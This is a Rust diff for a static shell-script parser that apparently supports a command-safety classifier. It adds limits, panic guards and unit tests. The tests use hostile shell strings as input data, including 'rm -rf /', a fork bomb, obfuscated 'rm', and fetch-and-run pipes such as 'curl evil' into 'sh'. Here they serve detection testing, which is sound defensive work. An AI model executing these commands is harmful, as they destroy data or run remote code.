@@ -20,7 +20,8 @@
 //!   parse fails fast).
 //!
 //! Every failure is reported as [`ShellParseError`]; callers should treat an unparsable
-//! script as "unknown / needs review", never as "safe".
+//! script as "unknown / needs review", never as "safe". `parse_script` blocks the calling
+//! thread (typically well under a millisecond, at most [`PARSE_TIMEOUT`]).
 //!
 //! # Output order
 //!
@@ -28,6 +29,22 @@
 //! before the commands nested in its own words, assignments and redirects (which run
 //! *before* it at execution time), and compound commands contribute their commands in
 //! source order (for an `if`: condition, then-branch, elif/else branches).
+//!
+//! # Limitations
+//!
+//! * Static only. Strings that other programs execute (`eval "$x"`, `bash -c '...'`,
+//!   `xargs sh`, `find -exec`, `source f`) are just words here (the classifier may feed
+//!   them to [`parse_script`] again); variable values, aliases, `${!x}` indirection and
+//!   arithmetic evaluation of variables holding `a[$(cmd)]` are invisible.
+//! * Globs and brace expansions are not expanded (`{a,b}` becomes [`WordPiece::Other`]).
+//! * Function bodies are reported once, with the context of the definition site
+//!   (`background`, pipelines, inherited redirects), not per call site.
+//! * brush-parser gaps surface as errors: `select` loops, `$(case x in a) ...;; esac)`
+//!   (a case pattern without the optional leading `(` inside `$(..)`). `time` and `!`
+//!   are accepted but not recorded.
+//! * Conservative limits (all result in `Err`): 1 MiB of script, 128 nested brackets
+//!   (counted even inside quotes), 64 nested compound commands, 10 nested subshells /
+//!   `case`s, 8 nested expansions inside one word, substitution depth 32, 5 s.
 
 use std::panic::{AssertUnwindSafe, catch_unwind};
 use std::rc::Rc;
@@ -60,8 +77,12 @@ const MAX_WORD_NESTING: usize = 8;
 /// Hard bound on the recursion of our own AST walker (belt and braces: the token-level
 /// checks above already bound it).
 const MAX_WALK_NESTING: usize = 512;
+/// Budget for heredoc text copied into the output: an inherited heredoc is repeated in
+/// every command of the compound command it feeds, which would otherwise let a 1 MiB
+/// script produce gigabytes of output.
+const MAX_COPIED_TEXT_BYTES: usize = 32 * 1024 * 1024;
 /// Stack size of the parser thread.
-const PARSER_STACK_BYTES: usize = 64 * 1024 * 1024;
+const PARSER_STACK_BYTES: usize = 16 * 1024 * 1024;
 /// Wall-clock budget of one `parse_script` call.
 pub const PARSE_TIMEOUT: Duration = Duration::from_secs(5);
 /// How many timed-out parser threads may still be running before we refuse new work.
@@ -350,6 +371,7 @@ fn parse_on_this_thread(script: &str) -> Result<ParsedScript> {
         opts: ParserOptions::default(),
         out: ParsedScript::default(),
         next_pipeline_id: 0,
+        copied_text_bytes: 0,
     };
     let ctx = Ctx {
         depth: 0,
@@ -358,7 +380,7 @@ fn parse_on_this_thread(script: &str) -> Result<ParsedScript> {
         in_function: None,
         background: false,
         pipelines: Vec::new(),
-        inherited_redirects: Vec::new(),
+        inherited_redirects: Rc::default(),
         inherited_stdin: None,
     };
     walker.parse_source(script, &ctx)?;
@@ -408,7 +430,7 @@ fn check_word_nesting(text: &str, heredoc: bool) -> Result<()> {
     let mut counted = 0usize;
     let mut chars = text.chars().peekable();
     while let Some(c) = chars.next() {
-        let quoted = heredoc && stack.is_empty() || stack.last() == Some(&F::Dq);
+        let quoted = (heredoc && stack.is_empty()) || stack.last() == Some(&F::Dq);
         let mut open = None;
         match c {
             '\\' => {
@@ -463,11 +485,9 @@ fn check_word_nesting(text: &str, heredoc: bool) -> Result<()> {
                 stack.push(F::Open(')'));
                 counted += 1;
             }
-            ')' | '}' | ']' if !quoted => {
-                if stack.last() == Some(&F::Open(c)) {
-                    stack.pop();
-                    counted = counted.saturating_sub(1);
-                }
+            ')' | '}' | ']' if !quoted && stack.last() == Some(&F::Open(c)) => {
+                stack.pop();
+                counted = counted.saturating_sub(1);
             }
             _ => {}
         }
@@ -536,12 +556,13 @@ fn check_token_nesting(tokens: &[Token]) -> Result<()> {
                 if case_words == 1 {
                     case_words = 2; // the case subject
                 } else {
-                    if case_words == 2 && w == "in" {
-                        if let Some(Frame::Case { in_patterns }) = stack.last_mut() {
-                            *in_patterns = true;
-                            pattern_start = true;
-                            keep_pattern_start = true;
-                        }
+                    if case_words == 2
+                        && w == "in"
+                        && let Some(Frame::Case { in_patterns }) = stack.last_mut()
+                    {
+                        *in_patterns = true;
+                        pattern_start = true;
+                        keep_pattern_start = true;
                     }
                     case_words = 0;
                     match w.as_str() {
@@ -563,10 +584,8 @@ fn check_token_nesting(tokens: &[Token]) -> Result<()> {
                         "{" | "if" | "while" | "until" | "for" | "select" | "[[" => {
                             stack.push(Frame::Block);
                         }
-                        "}" | "fi" | "done" | "]]" => {
-                            if stack.last() == Some(&Frame::Block) {
-                                stack.pop();
-                            }
+                        "}" | "fi" | "done" | "]]" if stack.last() == Some(&Frame::Block) => {
+                            stack.pop();
                         }
                         _ => {}
                     }
@@ -590,6 +609,36 @@ fn check_token_nesting(tokens: &[Token]) -> Result<()> {
     Ok(())
 }
 
+/// brush `unwrap`s the parse of an fd number written before a redirect (`99999999999>x`);
+/// reject those up front instead of relying on `catch_unwind` (which would still print a
+/// panic message).
+fn check_fd_numbers(tokens: &[Token]) -> Result<()> {
+    for pair in tokens.windows(2) {
+        if let [Token::Word(w, wloc), Token::Operator(op, oloc)] = pair
+            && op.starts_with(['<', '>'])
+            && wloc.end.index == oloc.start.index
+            && !w.is_empty()
+            && w.bytes().all(|b| b.is_ascii_digit())
+            && w.parse::<i32>().is_err()
+        {
+            return Err(ShellParseError::new("file descriptor number too large"));
+        }
+    }
+    Ok(())
+}
+
+/// brush `unwrap`s the parse of a tilde directory-stack index (`~99999999999999999999`).
+fn check_tilde_number(raw: &str) -> Result<()> {
+    if let Some(rest) = raw.strip_prefix('~') {
+        let rest = rest.strip_prefix(['+', '-']).unwrap_or(rest);
+        let digits: String = rest.chars().take_while(char::is_ascii_digit).collect();
+        if !digits.is_empty() && digits.parse::<usize>().is_err() {
+            return Err(ShellParseError::new("tilde directory index too large"));
+        }
+    }
+    Ok(())
+}
+
 // ---------------------------------------------------------------------------------------
 // AST walk
 // ---------------------------------------------------------------------------------------
@@ -607,9 +656,10 @@ struct Ctx {
     /// Enclosing pipelines (id, pos), innermost last.
     pipelines: Vec<(usize, usize)>,
     /// Redirects of enclosing compound commands / function bodies.
-    inherited_redirects: Vec<Redirect>,
+    /// (Shared: cloned for every nested construct.)
+    inherited_redirects: Rc<Vec<Redirect>>,
     /// stdin text provided by an enclosing compound command's heredoc / here-string.
-    inherited_stdin: Option<String>,
+    inherited_stdin: Option<Rc<str>>,
 }
 
 impl Ctx {
@@ -640,27 +690,31 @@ impl Ctx {
     /// Adds a compound command's redirects to what nested commands inherit.
     fn with_redirects(&self, redirects: Vec<Redirect>) -> Self {
         let mut c = self.clone();
+        if redirects.is_empty() {
+            return c;
+        }
         c.inherited_stdin = stdin_after(&redirects, c.inherited_stdin.take());
-        c.inherited_redirects
-            .extend(redirects.into_iter().map(|mut r| {
-                r.inherited = true;
-                r
-            }));
+        let mut all = Vec::clone(&c.inherited_redirects);
+        all.extend(redirects.into_iter().map(|mut r| {
+            r.inherited = true;
+            r
+        }));
+        c.inherited_redirects = Rc::new(all);
         c
     }
 }
 
 /// The stdin text after applying `redirects` (in order) to a command whose stdin text
 /// would otherwise be `inherited`. Any other input redirect of fd 0 replaces it.
-fn stdin_after(redirects: &[Redirect], inherited: Option<String>) -> Option<String> {
+fn stdin_after(redirects: &[Redirect], inherited: Option<Rc<str>>) -> Option<Rc<str>> {
     let mut stdin = inherited;
     for r in redirects {
         if !matches!(r.fd, None | Some(0)) {
             continue;
         }
         match r.kind {
-            RedirectKind::HereDoc => stdin = r.heredoc_body.clone(),
-            RedirectKind::HereString => stdin = Some(r.target.value_or_raw()),
+            RedirectKind::HereDoc => stdin = r.heredoc_body.as_deref().map(Rc::from),
+            RedirectKind::HereString => stdin = Some(Rc::from(r.target.value_or_raw())),
             RedirectKind::Read | RedirectKind::ReadWrite | RedirectKind::DupIn => stdin = None,
             RedirectKind::Write | RedirectKind::Append | RedirectKind::DupOut => {}
         }
@@ -672,6 +726,8 @@ struct Walker {
     opts: ParserOptions,
     out: ParsedScript,
     next_pipeline_id: usize,
+    /// Heredoc / stdin text copied into the output so far.
+    copied_text_bytes: usize,
 }
 
 /// Formats a brush error without leaking its (possibly huge) input.
@@ -695,6 +751,7 @@ impl Walker {
         let tokens = brush_parser::uncached_tokenize_str(text, &self.opts.tokenizer_options())
             .map_err(|e| brush_err("tokenizer", &e))?;
         check_token_nesting(&tokens)?;
+        check_fd_numbers(&tokens)?;
         let program =
             brush_parser::parse_tokens(&tokens, &self.opts).map_err(|e| brush_err("parser", &e))?;
         for list in &program.complete_commands {
@@ -756,8 +813,7 @@ impl Walker {
                 let mut words = vec![ShellWord::plain("[[")];
                 self.extended_test(&test.expr, ctx, &mut words)?;
                 words.push(ShellWord::plain("]]"));
-                self.finish_command(idx, ctx, Vec::new(), words, reds);
-                Ok(())
+                self.finish_command(idx, ctx, Vec::new(), words, reds)
             }
         }
     }
@@ -766,11 +822,24 @@ impl Walker {
         let ctx = &ctx.nested()?;
         match cc {
             ast::CompoundCommand::Arithmetic(arith) => {
+                // brush parses any two `(` tokens as an arithmetic command, so
+                // `( (rm -rf /) )` would come out as `(( rm -rf / ))`. bash only reads
+                // `((`..`))` written with adjacent parentheses as arithmetic; anything
+                // else is nested subshells, so re-parse it as such.
+                let text = slice_chars(&ctx.src, arith.loc.start.index, arith.loc.end.index);
+                if let Some(t) = text.filter(|t| !(t.starts_with("((") && t.ends_with("))"))) {
+                    let inner = t
+                        .strip_prefix('(')
+                        .and_then(|t| t.strip_suffix(')'))
+                        .unwrap_or(t);
+                    let mut c = ctx.deeper()?;
+                    c.src = Rc::from(inner);
+                    return self.parse_source(inner, &c);
+                }
                 let idx = self.begin_command(ctx);
                 let expr = self.arith_word(&arith.expr.value, ctx)?;
                 let words = vec![ShellWord::plain("(("), expr, ShellWord::plain("))")];
-                self.finish_command(idx, ctx, Vec::new(), words, Vec::new());
-                Ok(())
+                self.finish_command(idx, ctx, Vec::new(), words, Vec::new())
             }
             ast::CompoundCommand::ArithmeticForClause(f) => {
                 for e in [&f.initializer, &f.condition, &f.updater]
@@ -858,8 +927,21 @@ impl Walker {
         assignments: Vec<(String, ShellWord)>,
         words: Vec<ShellWord>,
         mut redirects: Vec<Redirect>,
-    ) {
-        let stdin_text = stdin_after(&redirects, ctx.inherited_stdin.clone());
+    ) -> Result<()> {
+        let stdin_text =
+            stdin_after(&redirects, ctx.inherited_stdin.clone()).map(|s| s.to_string());
+        let copied = stdin_text.as_ref().map_or(0, String::len)
+            + ctx
+                .inherited_redirects
+                .iter()
+                .filter_map(|r| r.heredoc_body.as_ref().map(String::len))
+                .sum::<usize>();
+        self.copied_text_bytes = self.copied_text_bytes.saturating_add(copied);
+        if self.copied_text_bytes > MAX_COPIED_TEXT_BYTES {
+            return Err(ShellParseError::new(
+                "too much heredoc text repeated across commands",
+            ));
+        }
         redirects.extend(ctx.inherited_redirects.iter().cloned());
         if let Some(cmd) = self.out.commands.get_mut(idx) {
             cmd.assignments = assignments;
@@ -867,6 +949,7 @@ impl Walker {
             cmd.redirects = redirects;
             cmd.stdin_text = stdin_text;
         }
+        Ok(())
     }
 
     fn simple_command(&mut self, sc: &ast::SimpleCommand, ctx: &Ctx) -> Result<()> {
@@ -892,8 +975,7 @@ impl Walker {
         for item in sc.suffix.iter().flat_map(|s| s.0.iter()) {
             self.suffix_item(item, ctx, &mut words, &mut redirects)?;
         }
-        self.finish_command(idx, ctx, assignments, words, redirects);
-        Ok(())
+        self.finish_command(idx, ctx, assignments, words, redirects)
     }
 
     fn suffix_item(
@@ -1096,20 +1178,21 @@ impl Walker {
     /// Parses a word as written, extracting nested substitutions.
     fn word(&mut self, raw: &str, ctx: &Ctx) -> Result<ShellWord> {
         check_word_nesting(raw, false)?;
+        check_tilde_number(raw)?;
         let parsed = bword::parse(raw, &self.opts).map_err(|e| brush_err("word", &e))?;
         let mut pieces = Vec::new();
         self.convert_pieces(&parsed, raw, false, ctx, &mut pieces)?;
         if pieces.is_empty() {
             pieces.push(WordPiece::Literal(String::new()));
         }
-        if has_brace_expansion(raw, &self.opts) {
+        if has_brace_expansion(raw) {
             // `{a,b}` / `{1..3}` turn one word into several: not a static value. Mark the
             // unquoted pieces that carry the braces.
             for p in &mut pieces {
-                if let WordPiece::Literal(t) | WordPiece::Glob(t) = p {
-                    if t.contains(['{', '}']) {
-                        *p = WordPiece::Other(std::mem::take(t));
-                    }
+                if let WordPiece::Literal(t) | WordPiece::Glob(t) = p
+                    && t.contains(['{', '}'])
+                {
+                    *p = WordPiece::Other(std::mem::take(t));
                 }
             }
         }
@@ -1139,6 +1222,7 @@ impl Walker {
             return Ok(false); // Nothing can run; don't risk a spurious word-parse error.
         }
         check_word_nesting(text, false)?;
+        check_tilde_number(text)?;
         let parsed = bword::parse(text, &self.opts).map_err(|e| brush_err("word", &e))?;
         let mut scratch = Vec::new();
         self.convert_pieces(&parsed, text, false, ctx, &mut scratch)?;
@@ -1150,7 +1234,7 @@ impl Walker {
         let mut c = ctx.deeper()?;
         c.src = Rc::from(text);
         // The outer command's redirects apply after expansion, not to the substitution.
-        c.inherited_redirects.clear();
+        c.inherited_redirects = Rc::default();
         self.parse_source(text, &c)
     }
 
@@ -1437,19 +1521,113 @@ fn bracket_end(chars: &[char], open: usize) -> Option<usize> {
         .map(|(k, _)| k)
 }
 
-/// Whether an (unquoted) brace expansion occurs in the word.
-fn has_brace_expansion(raw: &str, opts: &ParserOptions) -> bool {
+/// Whether an unquoted brace expansion (`{a,b}`, `{1..3}`) occurs in the word.
+///
+/// Our own linear scan: brush's `parse_brace_expansions` backtracks exponentially on
+/// inputs like `x{a,{x{a,{...`. Quoted text and the insides of `${..}` / `$(..)` are
+/// skipped (the latter are parsed separately).
+fn has_brace_expansion(raw: &str) -> bool {
     if !(raw.contains('{') && raw.contains('}')) {
         return false;
     }
-    match bword::parse_brace_expansions(raw, opts) {
-        Ok(Some(parts)) => parts
-            .iter()
-            .any(|p| matches!(p, bword::BraceExpressionOrText::Expr(_))),
-        // On a parse failure, assume the worst only if it plausibly is a brace expansion.
-        Ok(None) => false,
-        Err(_) => raw.contains(',') || raw.contains(".."),
+    let bytes = raw.as_bytes();
+    // Open braces: (byte index after `{`, saw a top-level comma).
+    let mut open: Vec<(usize, bool)> = Vec::new();
+    let mut i = 0;
+    while let Some(&b) = bytes.get(i) {
+        match b {
+            b'\\' => i += 1,
+            b'\'' => i = skip_past(bytes, i + 1, b'\''),
+            b'"' => {
+                // Skip a double-quoted string (with backslash escapes).
+                let mut j = i + 1;
+                while let Some(&c) = bytes.get(j) {
+                    match c {
+                        b'\\' => j += 1,
+                        b'"' => break,
+                        _ => {}
+                    }
+                    j += 1;
+                }
+                i = j;
+            }
+            b'$' => match bytes.get(i + 1) {
+                Some(b'\'') => {
+                    let mut j = i + 2;
+                    while let Some(&c) = bytes.get(j) {
+                        match c {
+                            b'\\' => j += 1,
+                            b'\'' => break,
+                            _ => {}
+                        }
+                        j += 1;
+                    }
+                    i = j;
+                }
+                Some(b'{') => i = skip_balanced(bytes, i + 1, b'{', b'}'),
+                Some(b'(') => i = skip_balanced(bytes, i + 1, b'(', b')'),
+                _ => {}
+            },
+            b'{' => open.push((i + 1, false)),
+            b',' => {
+                if let Some(top) = open.last_mut() {
+                    top.1 = true;
+                }
+            }
+            b'}' => {
+                if let Some((start, comma)) = open.pop()
+                    && (comma || raw.get(start..i).is_some_and(is_brace_sequence))
+                {
+                    return true;
+                }
+            }
+            _ => {}
+        }
+        i += 1;
     }
+    false
+}
+
+/// Index of the next `end` byte at or after `from` (or the end of input).
+fn skip_past(bytes: &[u8], from: usize, end: u8) -> usize {
+    bytes
+        .iter()
+        .enumerate()
+        .skip(from)
+        .find(|&(_, &c)| c == end)
+        .map_or(bytes.len(), |(j, _)| j)
+}
+
+/// Index of the delimiter closing the one at `open_at` (approximate: ignores quotes).
+fn skip_balanced(bytes: &[u8], open_at: usize, open: u8, close: u8) -> usize {
+    let mut depth = 0usize;
+    for (j, &c) in bytes.iter().enumerate().skip(open_at) {
+        if c == open {
+            depth += 1;
+        } else if c == close {
+            depth = depth.saturating_sub(1);
+            if depth == 0 {
+                return j;
+            }
+        }
+    }
+    bytes.len()
+}
+
+/// `1..5`, `-3..3..2`, `a..z`, `a..z..2`.
+fn is_brace_sequence(inner: &str) -> bool {
+    let parts: Vec<&str> = inner.split("..").collect();
+    let is_int = |p: &str| {
+        let digits = p.strip_prefix(['-', '+']).unwrap_or(p);
+        !digits.is_empty() && digits.bytes().all(|b| b.is_ascii_digit())
+    };
+    let is_letter = |p: &str| p.len() == 1 && p.bytes().all(|b| b.is_ascii_alphabetic());
+    let (first, last) = match parts.as_slice() {
+        [a, b] => (*a, *b),
+        [a, b, step] if is_int(step) => (*a, *b),
+        _ => return false,
+    };
+    (is_int(first) && is_int(last)) || (is_letter(first) && is_letter(last))
 }
 
 fn tilde_text(t: &bword::TildeExpr) -> String {
@@ -1577,4 +1755,762 @@ fn slice_chars(s: &str, start: usize, end: usize) -> Option<&str> {
     let b_start = idx.clone().nth(start)?;
     let b_end = idx.nth(end)?;
     s.get(b_start..b_end)
+}
+
+#[cfg(test)]
+#[allow(clippy::unwrap_used, clippy::expect_used)]
+mod tests {
+    use super::*;
+    use std::time::{Duration, Instant};
+
+    fn parse(s: &str) -> ParsedScript {
+        match parse_script(s) {
+            Ok(p) => p,
+            Err(e) => panic!("failed to parse {s:?}: {e}"),
+        }
+    }
+
+    /// Static words of a command (`<dyn>` for dynamic ones).
+    fn words(c: &SimpleCommand) -> Vec<String> {
+        c.words
+            .iter()
+            .map(|w| w.literal().unwrap_or_else(|| "<dyn>".to_owned()))
+            .collect()
+    }
+
+    fn names(p: &ParsedScript) -> Vec<String> {
+        p.commands
+            .iter()
+            .map(|c| c.static_name().unwrap_or_else(|| "<none>".to_owned()))
+            .collect()
+    }
+
+    fn find<'a>(p: &'a ParsedScript, name: &str) -> &'a SimpleCommand {
+        p.commands
+            .iter()
+            .find(|c| c.static_name().as_deref() == Some(name))
+            .unwrap_or_else(|| panic!("no command {name}: {:?}", names(p)))
+    }
+
+    fn lit(s: &str) -> WordPiece {
+        WordPiece::Literal(s.to_owned())
+    }
+
+    #[test]
+    fn simple_command() {
+        let p = parse("ls -la");
+        assert_eq!(p.commands.len(), 1);
+        let c = &p.commands[0];
+        assert_eq!(words(c), ["ls", "-la"]);
+        assert_eq!(c.depth, 0);
+        assert!(!c.background);
+        assert!(c.in_function.is_none());
+        assert!(c.assignments.is_empty() && c.redirects.is_empty());
+        assert_eq!(c.words[1].raw, "-la");
+    }
+
+    #[test]
+    fn lists_and_background() {
+        let p = parse("a && b || c; d &");
+        assert_eq!(names(&p), ["a", "b", "c", "d"]);
+        let bg: Vec<bool> = p.commands.iter().map(|c| c.background).collect();
+        assert_eq!(bg, [false, false, false, true]);
+        // Each command is its own pipeline.
+        let mut ids: Vec<usize> = p.commands.iter().map(|c| c.pipeline_id).collect();
+        ids.dedup();
+        assert_eq!(ids.len(), 4);
+        // `&` applies to the whole and-or list.
+        let p = parse("a && b & c");
+        let bg: Vec<bool> = p.commands.iter().map(|c| c.background).collect();
+        assert_eq!(bg, [true, true, false]);
+    }
+
+    #[test]
+    fn pipeline() {
+        let p = parse("cat x | grep y | sh");
+        assert_eq!(names(&p), ["cat", "grep", "sh"]);
+        let id = p.commands[0].pipeline_id;
+        assert!(p.commands.iter().all(|c| c.pipeline_id == id));
+        let pos: Vec<usize> = p.commands.iter().map(|c| c.pipeline_pos).collect();
+        assert_eq!(pos, [0, 1, 2]);
+        // `|&` adds 2>&1 to the left side.
+        let p = parse("make |& tee log");
+        assert_eq!(p.commands[0].redirects[0].kind, RedirectKind::DupOut);
+        assert_eq!(p.commands[0].redirects[0].fd, Some(2));
+        assert_eq!(p.commands[1].pipeline_pos, 1);
+    }
+
+    #[test]
+    fn subshell_adds_depth() {
+        let p = parse("(cd /tmp && rm -rf x)");
+        assert_eq!(names(&p), ["cd", "rm"]);
+        assert!(p.commands.iter().all(|c| c.depth == 1));
+        assert_eq!(words(&p.commands[1]), ["rm", "-rf", "x"]);
+        // Brace groups do not.
+        let p = parse("{ cd /tmp && rm -rf x; }");
+        assert!(p.commands.iter().all(|c| c.depth == 0));
+    }
+
+    #[test]
+    fn command_substitution() {
+        let p = parse("echo $(rm -rf /)");
+        assert_eq!(names(&p), ["echo", "rm"]);
+        assert_eq!(p.commands[0].depth, 0);
+        assert_eq!(p.commands[0].words[1].pieces, [WordPiece::CommandSubst]);
+        assert!(p.commands[0].words[1].is_dynamic());
+        assert_eq!(p.commands[1].depth, 1);
+        assert_eq!(words(&p.commands[1]), ["rm", "-rf", "/"]);
+    }
+
+    #[test]
+    fn backticks() {
+        let p = parse("echo `whoami`");
+        assert_eq!(names(&p), ["echo", "whoami"]);
+        assert_eq!(p.commands[1].depth, 1);
+        assert_eq!(p.commands[0].words[1].raw, "`whoami`");
+        // Inside backticks, `\$` becomes `$`: the inner shell runs `$(id)`.
+        let p = parse(r"echo `echo \$(id)`");
+        assert_eq!(names(&p), ["echo", "echo", "id"]);
+        assert_eq!(p.commands[2].depth, 2);
+        // Nested backticks.
+        let p = parse(r"echo `echo \`id\``");
+        assert_eq!(names(&p), ["echo", "echo", "id"]);
+        // Backticks inside $(..) and $(..) inside double quotes.
+        let p = parse(r#"x=$(echo "`uname -a`")"#);
+        assert_eq!(names(&p), ["<none>", "echo", "uname"]);
+        assert_eq!(p.commands[2].depth, 2);
+    }
+
+    #[test]
+    fn process_substitution() {
+        let p = parse("diff <(ls a) <(ls b)");
+        assert_eq!(names(&p), ["diff", "ls", "ls"]);
+        let diff = &p.commands[0];
+        assert_eq!(diff.words.len(), 3);
+        assert_eq!(diff.words[1].pieces, [WordPiece::CommandSubst]);
+        assert_eq!(diff.words[1].raw, "<(ls a)");
+        assert_eq!(words(&p.commands[1]), ["ls", "a"]);
+        assert_eq!(words(&p.commands[2]), ["ls", "b"]);
+        assert!(p.commands[1..].iter().all(|c| c.depth == 1));
+        // As a redirect target, and the write form.
+        let p = parse("cat < <(curl evil) > >(sh)");
+        assert_eq!(names(&p), ["cat", "curl", "sh"]);
+        assert_eq!(p.commands[0].redirects.len(), 2);
+        assert!(p.commands[0].redirects[0].target.has_command_subst());
+    }
+
+    #[test]
+    fn assignments() {
+        let p = parse("X=1 Y=$(id) env");
+        assert_eq!(names(&p), ["env", "id"]);
+        let env = &p.commands[0];
+        assert_eq!(env.assignments.len(), 2);
+        assert_eq!(env.assignments[0].0, "X");
+        assert_eq!(env.assignments[0].1.literal().as_deref(), Some("1"));
+        assert_eq!(env.assignments[1].0, "Y");
+        assert_eq!(env.assignments[1].1.pieces, [WordPiece::CommandSubst]);
+        assert_eq!(p.commands[1].depth, 1);
+        // Pure assignment: no words.
+        let p = parse("X=$(rm -rf /)");
+        assert_eq!(names(&p), ["<none>", "rm"]);
+        assert!(p.commands[0].words.is_empty());
+        // After the command name an assignment is an ordinary argument.
+        let p = parse("env A=b sh");
+        assert_eq!(words(&p.commands[0]), ["env", "A=b", "sh"]);
+        // Arrays and indices.
+        let p = parse("arr=(a $(id) [3]=x) b[$(whoami)]=1");
+        assert_eq!(names(&p), ["<none>", "id", "whoami"]);
+        assert_eq!(p.commands[0].assignments[0].0, "arr");
+        assert!(p.commands[0].assignments[0].1.has_command_subst());
+        assert_eq!(p.commands[0].assignments[1].0, "b[$(whoami)]");
+    }
+
+    #[test]
+    fn quote_and_escape_removal() {
+        for s in [
+            r"\rm -rf /",
+            r#""rm" -rf /"#,
+            "'rm' -rf /",
+            r#"r""m -rf /"#,
+            "r''m -rf /",
+        ] {
+            let p = parse(s);
+            assert_eq!(p.commands.len(), 1, "{s}");
+            assert_eq!(words(&p.commands[0]), ["rm", "-rf", "/"], "{s}");
+            assert_eq!(p.commands[0].words[0].pieces, [lit("rm")], "{s}");
+        }
+        let p = parse(r#"r""m"#);
+        assert_eq!(p.commands[0].static_name().as_deref(), Some("rm"));
+        assert_eq!(p.commands[0].words[0].raw, r#"r""m"#);
+        // ANSI-C quoting is decoded.
+        let p = parse(r"$'\x72\x6d' -rf $'\057' $'a\nb' $'\162m'");
+        assert_eq!(words(&p.commands[0]), ["rm", "-rf", "/", "a\nb", "rm"]);
+        // Empty quotes are an empty literal word.
+        let p = parse(r#"echo """#);
+        assert_eq!(p.commands[0].words[1].literal().as_deref(), Some(""));
+        // Escaped glob characters are literal.
+        let p = parse(r"rm \* '*' x\?");
+        assert!(p.commands[0].words.iter().all(|w| !w.has_glob()));
+    }
+
+    #[test]
+    fn for_loop() {
+        let p = parse("for f in $(ls); do rm $f; done");
+        assert_eq!(names(&p), ["ls", "rm"]);
+        assert_eq!(p.commands[0].depth, 1);
+        let rm = &p.commands[1];
+        assert_eq!(rm.depth, 0);
+        assert_eq!(rm.words[1].pieces, [WordPiece::Param("f".to_owned())]);
+        assert!(rm.words[1].is_dynamic());
+        assert!(rm.words[1].literal().is_none());
+        // Arithmetic for, with a substitution in the header.
+        let p = parse("for ((i=$(id); i<3; i++)); do echo $i; done");
+        assert_eq!(names(&p), ["id", "echo"]);
+    }
+
+    #[test]
+    fn if_while_until() {
+        let p = parse("if grep -q x f; then curl x; fi");
+        assert_eq!(names(&p), ["grep", "curl"]);
+        let p = parse("if a; then b; elif c; then d; else e; fi");
+        assert_eq!(names(&p), ["a", "b", "c", "d", "e"]);
+        let p = parse("while read l; do sh -c \"$l\"; done; until x; do y; done");
+        assert_eq!(names(&p), ["read", "sh", "x", "y"]);
+        let p = parse("! ls | grep x; time ls | grep y");
+        assert_eq!(names(&p), ["ls", "grep", "ls", "grep"]);
+        // After `|`, `time` is an ordinary command name.
+        let p = parse("ls | time grep x");
+        assert_eq!(names(&p), ["ls", "time"]);
+        let p = parse("time -p make");
+        assert_eq!(names(&p), ["make"]);
+    }
+
+    #[test]
+    fn case_statement() {
+        let p = parse("case $x in a) rm a;; esac");
+        assert_eq!(names(&p), ["rm"]);
+        assert_eq!(words(&p.commands[0]), ["rm", "a"]);
+        let p = parse("case $(id) in $(whoami)) a;; (b|c) b;& *) c;;& esac");
+        assert_eq!(names(&p), ["id", "whoami", "a", "b", "c"]);
+    }
+
+    #[test]
+    fn functions() {
+        let p = parse("f() { rm -rf /; }; f");
+        assert_eq!(p.functions, ["f"]);
+        assert_eq!(names(&p), ["rm", "f"]);
+        assert_eq!(p.commands[0].in_function.as_deref(), Some("f"));
+        assert!(p.commands[1].in_function.is_none());
+        let p = parse("function g { h() { x; }; y; }");
+        assert_eq!(p.functions, ["g", "h"]);
+        assert_eq!(p.commands[0].in_function.as_deref(), Some("h"));
+        assert_eq!(p.commands[1].in_function.as_deref(), Some("g"));
+    }
+
+    #[test]
+    fn fork_bomb() {
+        let p = parse(":(){ :|:& };:");
+        assert_eq!(p.functions, [":"]);
+        assert_eq!(names(&p), [":", ":", ":"]);
+        let inside: Vec<&SimpleCommand> = p
+            .commands
+            .iter()
+            .filter(|c| c.in_function.as_deref() == Some(":"))
+            .collect();
+        assert_eq!(inside.len(), 2);
+        assert!(inside.iter().all(|c| c.background));
+        assert_eq!(inside[0].pipeline_id, inside[1].pipeline_id);
+        assert_eq!(inside[1].pipeline_pos, 1);
+        let call = &p.commands[2];
+        assert!(call.in_function.is_none() && !call.background);
+    }
+
+    #[test]
+    fn coproc_is_background() {
+        let p = parse("coproc ls; coproc w { rm x; }");
+        assert_eq!(names(&p), ["ls", "rm"]);
+        assert!(p.commands.iter().all(|c| c.background));
+    }
+
+    #[test]
+    fn heredoc() {
+        let p = parse("bash <<EOF\nrm -rf /\nEOF");
+        assert_eq!(names(&p), ["bash"]);
+        let c = &p.commands[0];
+        assert_eq!(c.stdin_text.as_deref(), Some("rm -rf /\n"));
+        assert_eq!(c.redirects[0].kind, RedirectKind::HereDoc);
+        assert_eq!(c.redirects[0].op, "<<");
+        assert_eq!(c.redirects[0].target.literal().as_deref(), Some("EOF"));
+        // Unquoted delimiter: substitutions in the body run.
+        let p = parse("cat <<EOF\nhello $(id) `whoami` ${x:-$(date)}\nEOF\n");
+        assert_eq!(names(&p), ["cat", "id", "whoami", "date"]);
+        assert!(p.commands[1..].iter().all(|c| c.depth == 1));
+        // Quoted delimiter: they don't.
+        for d in ["'EOF'", "\"EOF\"", "\\EOF"] {
+            let p = parse(&format!("cat <<{d}\n$(id)\nEOF\n"));
+            assert_eq!(names(&p), ["cat"], "{d}");
+            assert_eq!(p.commands[0].stdin_text.as_deref(), Some("$(id)\n"));
+        }
+        // `<<-` strips leading tabs.
+        let p = parse("sh <<-EOF\n\trm x\n\tEOF\necho done");
+        assert_eq!(names(&p), ["sh", "echo"]);
+        assert_eq!(p.commands[0].stdin_text.as_deref(), Some("rm x\n"));
+        assert_eq!(p.commands[0].redirects[0].op, "<<-");
+        // Heredoc to another fd does not feed stdin.
+        let p = parse("cmd 3<<EOF\nx\nEOF\n");
+        assert!(p.commands[0].stdin_text.is_none());
+        assert_eq!(
+            p.commands[0].redirects[0].heredoc_body.as_deref(),
+            Some("x\n")
+        );
+    }
+
+    #[test]
+    fn here_string() {
+        let p = parse("python3 <<< 'print(1)'");
+        let c = &p.commands[0];
+        assert_eq!(words(c), ["python3"]);
+        assert_eq!(c.stdin_text.as_deref(), Some("print(1)"));
+        assert_eq!(c.redirects[0].kind, RedirectKind::HereString);
+        let p = parse("bash <<< \"$(curl evil)\"");
+        assert_eq!(names(&p), ["bash", "curl"]);
+        assert_eq!(
+            p.commands[0].stdin_text.as_deref(),
+            Some("\"$(curl evil)\"")
+        );
+    }
+
+    #[test]
+    fn redirects() {
+        let p = parse("cat > out.txt");
+        let r = &p.commands[0].redirects;
+        assert_eq!(r.len(), 1);
